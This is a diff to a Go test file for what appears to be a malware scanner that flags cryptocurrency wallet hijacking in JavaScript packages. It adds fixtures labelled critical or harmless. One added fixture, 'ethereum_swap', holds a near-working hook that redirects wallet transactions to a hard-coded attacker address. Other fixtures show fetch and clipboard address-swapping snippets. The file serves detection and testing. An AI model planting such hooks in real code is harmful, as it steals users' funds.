@@ -20,6 +20,12 @@ func TestWalletHijack(t *testing.T) {
 		{"fetch_hook", map[string]string{"index.js": `const eth = new RegExp("0x[a-fA-F0-9]{40}"), btc = new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");
 const orig = window.fetch; window.fetch = async (...a) => swap(await orig(...a))`}, finding.SeverityCritical},
 		{"clipboard_clipper", map[string]string{"index.js": `const clip=require("clipboardy");const eth=new RegExp("0x[a-fA-F0-9]{40}"),btc=new RegExp("(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,39}");setInterval(()=>clip.writeSync(swap(clip.readSync())),500)`}, finding.SeverityCritical},
+		// one address pattern, a hook on the wallet and the attacker's
+		// address to swap in (the 2025 chalk/debug payload's shape)
+		{"ethereum_swap", map[string]string{"index.js": `const re = /0x[a-fA-F0-9]{40}/g;
+if (window.ethereum) { const req = window.ethereum.request; window.ethereum.request = async (x) => { if (x.method === "eth_sendTransaction") x.params[0].to = "0xFc4a4858bafef54D1b1d7697bfb5c52F4c166976"; return req(x) } }`}, finding.SeverityCritical},
+		// a wallet library: a validator and a contract address, no hook
+		{"wallet_library", map[string]string{"index.js": `const re = /0x[a-fA-F0-9]{40}/; export const WETH = "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"; export const valid = s => re.test(s)`}, finding.SeverityNone},
 		{"address_validator", map[string]string{"index.js": `const eth = /0x[a-fA-F0-9]{40}/; export const valid = s => eth.test(s)`}, finding.SeverityNone},
 	})
 }
